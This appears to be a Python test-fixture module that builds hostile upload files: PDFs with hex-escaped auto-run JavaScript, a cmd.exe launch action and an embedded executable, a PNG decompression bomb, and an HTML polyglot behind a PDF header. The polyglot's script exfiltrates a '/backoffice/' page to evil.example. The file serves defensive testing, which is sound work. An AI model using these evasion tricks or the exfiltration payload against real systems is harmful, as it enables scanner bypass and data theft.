"""Hostile files, shaped as an attacker sends them, for the tests of every upload.

Each is built here from the published formats (PDF 1.7 §7.3.5 on names written with
`#xx` escapes, §12.6 on actions; PNG's IHDR and zlib-compressed IDAT), not taken from
our own writers, so the checks see what arrives from outside.
"""

from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Callable


def pdf(
    catalog_extra: str = "", *, page_extra: str = "", extra_objects: tuple[str, ...] = ()
) -> bytes:
    """A small, well-formed PDF 1.4 with a cross-reference table pypdf reads strictly."""
    objects = [
        "<< /Type /Catalog /Pages 2 0 R " + catalog_extra + " >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page_extra + " >>",
        "<< /Author (Eva Visser) /Producer (Scanner 3000) >>",
        *extra_objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    trailer = f"<< /Size {len(objects) + 1} /Root 1 0 R /Info 4 0 R >>"
    out.write(f"trailer\n{trailer}\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_open_action_hex_escaped() -> bytes:
    """/OpenAction running JavaScript, every telling name written with #xx escapes.

    A scan of the raw bytes for `/JavaScript`, `/JS` or `/OpenAction` finds nothing;
    a PDF reader decodes the names and runs the script when the file opens.
    """
    return pdf(
        "/Open#41ction 5 0 R", extra_objects=("<< /S /J#61vaScript /J#53 (app.alert(1)) >>",)
    )


def pdf_page_additional_action() -> bytes:
    """A page's /AA (additional actions), escaped too: runs when the page is shown."""
    return pdf(page_extra="/#41A << /O << /S /#4Caunch /F (cmd.exe) >> >>")


def pdf_embedded_file_in_names() -> bytes:
    return pdf(
        "/Names << /Embedded#46iles << /Names [(a.exe) 5 0 R] >> >>",
        extra_objects=("<< /Type /Filespec /F (a.exe) >>",),
    )


def html_behind_pdf_header() -> bytes:
    """An HTML page whose first line is `%PDF-1.4` and last `%%EOF`: sniffed, it runs."""
    return (
        b"%PDF-1.4\n<!DOCTYPE html><html><body><script>fetch('/backoffice/')"
        b".then(r=>r.text()).then(t=>location='https://evil.example/?'+btoa(t))"
        b"</script></body></html>\n%%EOF\n"
    )


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@functools.cache
def png_bomb(side: int = 20000) -> bytes:
    """A side x side 8-bit greyscale PNG of zeros: some 400 KB, 400 megapixels decoded."""
    row = b"\x00" * (side + 1)  # filter byte + pixels
    compressor = zlib.compressobj(9)
    parts = [compressor.compress(row) for _ in range(side)]
    parts.append(compressor.flush())
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", b"".join(parts))
        + _chunk(b"IEND", b"")
    )


def png(width: int = 60, height: int = 40, *, text: str = "") -> bytes:
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    if text:
        info.add_text("Author", text)
    out = io.BytesIO()
    Image.new("RGB", (width, height), (200, 30, 30)).save(out, format="PNG", pnginfo=info)
    return out.getvalue()


def scanned_pdf() -> bytes:
    """A PDF as a phone's scanner app makes it: one page holding one JPEG."""
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (120, 80), (30, 120, 200)).save(out, format="PDF", resolution=72)
    return out.getvalue()


HOSTILE: dict[str, Callable[[], bytes]] = {
    "pdf_open_action_hex_escaped": pdf_open_action_hex_escaped,
    "pdf_page_additional_action": pdf_page_additional_action,
    "pdf_embedded_file_in_names": pdf_embedded_file_in_names,
    "html_behind_pdf_header": html_behind_pdf_header,
    "png_bomb": png_bomb,
}
